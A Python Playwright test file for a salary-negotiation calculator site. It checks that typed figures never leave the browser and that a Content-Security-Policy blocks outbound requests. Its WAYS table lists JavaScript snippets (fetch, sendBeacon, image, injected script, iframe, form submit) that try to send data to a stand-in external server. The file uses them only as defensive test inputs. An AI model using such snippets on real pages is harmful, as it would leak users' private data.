"""The whole way of a reader, from the offer to the call: what it gives, keeps and asks for.

The server sends the policy that the README gives to hosts, with every file.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Request, expect

from calculators._sitebuild.publish.policy import HEADER
from tests.browser.conftest import until
from tests.browser.person import Person
from tests.browser.test_keeping import choose, keys
from tests.browser.test_known import Reader, compared
from tests.browser.test_sharing import share
from tests.server import KEYS, SUB_PATH, SiteServer

# What this reader types; none of it may stand in any request.
TYPED = ("Northwind", "95k", "95000", "105k", "105000", "98k", "98000", "Okafor", "2026-12-03")


@pytest.fixture
def server(built_site: Path) -> Iterator[SiteServer]:
    """Serve the site with the policy in the headers as well."""
    server = SiteServer(built_site, headers={"Content-Security-Policy": HEADER})
    yield server
    server.stop()


class Requests:
    """Every request that these browsers made, of pages and of workers."""

    def __init__(self) -> None:
        self.made: list[Request] = []

    def record(self, context: BrowserContext) -> None:
        """Begin before the first page is opened."""
        context.on("request", lambda it: self.made.append(it))  # noqa: PLW0108

    def check(self, server: SiteServer) -> None:
        """Each was for a file of the site, by its bare address, and took nothing along."""
        assert len(self.made) > 50
        for request in self.made:
            parts = urlsplit(request.url)
            if parts.scheme == "blob":  # a file that the reader saves, made in the page
                continue
            address = f"{parts.scheme}://{parts.netloc}"
            assert (address, parts.query) == (server.origin, ""), request.url
            assert (request.method, request.post_data) == ("GET", None), request.url
            assert server.find(parts.path.removeprefix(SUB_PATH)) is not None, request.url
            told = request.url.partition("#")[0] + str(request.headers)
            assert not [typed for typed in TYPED if typed in told], request.url
        assert all(request.path.startswith(SUB_PATH) for request in server.requests)
        assert {request.status for request in server.requests} <= {200, 301}


def numbers_in_three_calculators(reader: Reader) -> None:
    """Comparison, counter-offer and deadline, each passed on to the next place."""
    comparison = compared(reader)
    comparison.press("Yes, keep it")
    expect(comparison.saved).to_be_visible()
    reader.uses("Counter offer")
    counter = reader.at("counter-offer")
    expect(counter.control("offer")).to_have_value("95000")
    counter.fill_in({"target": "105k", "walk_away": "98k"})
    counter.sees({"ask": "$115,000"})  # 2 x 105,000 - 95,000
    expect(counter.saved).to_be_visible()
    reader.uses("Scripts")
    expect(reader.script("opening-ask")).to_contain_text("from $95,000 to $115,000")
    reader.goes("calculators/deadline/")
    deadline = reader.at("deadline")
    deadline.press("Clear the form")
    deadline.fill_in({"today": "2026-11-23", "deadline": "2026-12-03"})
    expect(deadline.figure("deadline")).to_contain_text("3")
    expect(deadline.saved).to_be_visible()


def share_with_a_friend(reader: Reader, friend: Page) -> None:
    """Send a link to another device: their answer is the same, and the walk-away stayed here."""
    reader.goes("calculators/counter-offer/")
    counter = reader.at("counter-offer")
    expect(counter.control("walk_away")).to_have_value("98k")
    friend.goto(share(counter))
    other = Person(friend, "", "counter-offer")
    expect(other.notice("shared")).to_be_visible()
    other.sees({"ask": "$115,000"})
    expect(other.control("walk_away")).to_have_value("")
    assert keys(friend) == []


def everything_is_there(reader: Reader) -> None:
    """Three calculators, the brief and the scripts hold the reader's own, after a fresh load."""
    for slug, field, value in (
        ("total-compensation", "offers.0.base", "95k"),
        ("counter-offer", "walk_away", "98k"),
        ("deadline", "deadline", "2026-12-03"),
        ("brief", "company", "Northwind"),
    ):
        person = reader.opens(slug, ADDRESSES[slug])
        expect(person.control(field)).to_have_value(value)
    reader.page.goto(reader.root + "scripts/opening-ask/")
    ask = reader.script("opening-ask")
    expect(ask).to_contain_text("from $95,000 to $115,000")
    expect(ask).to_contain_text("Ada Okafor")
    reader.page.goto(reader.root + "scripts/other-offers/")
    expect(reader.script("ask-for-extension")).to_contain_text("Thu 3\u00a0Dec\u00a02026")


ADDRESSES = {
    "total-compensation": "calculators/total-compensation/",
    "counter-offer": "calculators/counter-offer/",
    "deadline": "calculators/deadline/",
    "brief": "brief/",
}


@pytest.mark.first_visit
def test_whole_walk(
    page: Page, new_context: Callable[..., BrowserContext], server: SiteServer
) -> None:
    """Type, use, fill in, share, save, erase, bring back; and who was asked for what."""
    requests = Requests()
    other = new_context()
    requests.record(page.context)
    requests.record(other)
    friend = other.new_page()
    reader = Reader(page, server)

    numbers_in_three_calculators(reader)
    reader.uses("Your brief for the call")
    brief = reader.at("brief")
    expect(brief.control("company")).to_have_value("Northwind")
    expect(brief.control("opening")).to_have_value("115000")
    expect(brief.control("deadline")).to_have_value("2026-12-03")
    brief.sees({"ask": "$115,000", "target": "$105,000"})
    expect(brief.saved).to_be_visible()
    reader.goes("scripts/")
    page.get_by_text("Your details for the scripts", exact=True).click()
    page.get_by_label("Your name", exact=True).fill("Ada Okafor")
    until(page, f"localStorage.getItem('{KEYS}known:1').includes('Ada Okafor')")
    share_with_a_friend(reader, friend)
    everything_is_there(reader)

    counter = reader.opens("counter-offer", ADDRESSES["counter-offer"])
    counter.show_more()
    with page.expect_download() as saved:
        counter.press("Save to a file")
    file = saved.value.path().read_bytes()
    counter.show_more()
    counter.press("Erase everything")
    counter.press("Yes, erase everything")
    expect(counter.notice("erased")).to_contain_text("Decision deadline")
    assert keys(page) == []
    page.goto(reader.root + "scripts/opening-ask/")
    expect(reader.script("opening-ask")).to_contain_text("[your ask]")
    brief = reader.opens("brief", ADDRESSES["brief"])
    expect(brief.control("company")).not_to_have_value("Northwind")
    brief.show_more()
    choose(brief, file)
    brief.press("Open it")
    expect(brief.notice("file-opened")).to_be_visible()
    everything_is_there(reader)
    requests.check(server)


# Ways by which a page could tell somebody something; `there` is another site's address. The form
# comes last: where nothing stops it, it takes the page away.
WAYS = {
    "fetch": "fetch(there, { mode: 'no-cors' }).catch(() => {})",
    "worker": "fetch(there, { mode: 'no-cors' }).catch(() => {})",
    "beacon": "navigator.sendBeacon(there, 'offer')",
    "image": "new Image().src = there",
    "script": "document.head.append(Object.assign(document.createElement('script'),{src: there}))",
    "style": "document.head.append(Object.assign(document.createElement('link'),"
    "{rel: 'stylesheet', href: there}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'),{src: there}))",
    "form": "{ const form = Object.assign(document.createElement('form'), {action: there});"
    " document.body.append(form); form.submit() }",
}


@pytest.fixture
def elsewhere(built_site: Path) -> Iterator[SiteServer]:
    """Somebody else's server, which notes who asks."""
    server = SiteServer(built_site)
    yield server
    server.stop()


def _told(page: Page, elsewhere: SiteServer) -> set[str]:
    """Try each way in a calculator's page that has answered, and list those that got through."""
    elsewhere.forget()
    for way, code in WAYS.items():
        place = page.workers[0] if way == "worker" else page
        place.evaluate(f"there => {{ {code} }}", f"{elsewhere.address}{way}/")
    told: set[str] = set()
    for _ in range(30):  # until nothing has come for a while
        before = told
        page.wait_for_timeout(500)
        told = {it.path.removeprefix(SUB_PATH).partition("/")[0] for it in elsewhere.requests}
        if told == before:
            break
    return told


@pytest.mark.parametrize("ruled", [True, False], ids=["with the policy", "without it"])
def test_policy_would_stop_a_request_to_somebody_else(
    browser: Browser,
    server: SiteServer,
    elsewhere: SiteServer,
    ruled: bool,  # noqa: FBT001
) -> None:
    """No way gets through; and without the policy, every one of them does."""
    context = browser.new_context(service_workers="block", bypass_csp=not ruled)
    server.headers = {"Content-Security-Policy": HEADER} if ruled else {}
    page = context.new_page()
    person = Person(page, server.address + "calculators/counter-offer/")
    person.open()
    person.type("target", "112k")
    expect(person.figure("ask")).to_have_text("$124,000")
    told = _told(page, elsewhere)
    # The page that came into the frame asks for files of its own.
    assert told == set() if ruled else told >= set(WAYS)
    context.close()


def test_own_element_rules_without_any_header(
    browser: Browser, server: SiteServer, elsewhere: SiteServer
) -> None:
    """Where the host can set no headers, the page's own policy stops the page."""
    server.headers = {}
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(server.address)
    page.evaluate("there => fetch(there, {mode: 'no-cors'}).catch(() => {})", elsewhere.address)
    page.wait_for_timeout(500)
    assert elsewhere.requests == []
    assert [line for line in said if re.search(r"Content.Security.Policy", line)]
    context.close()
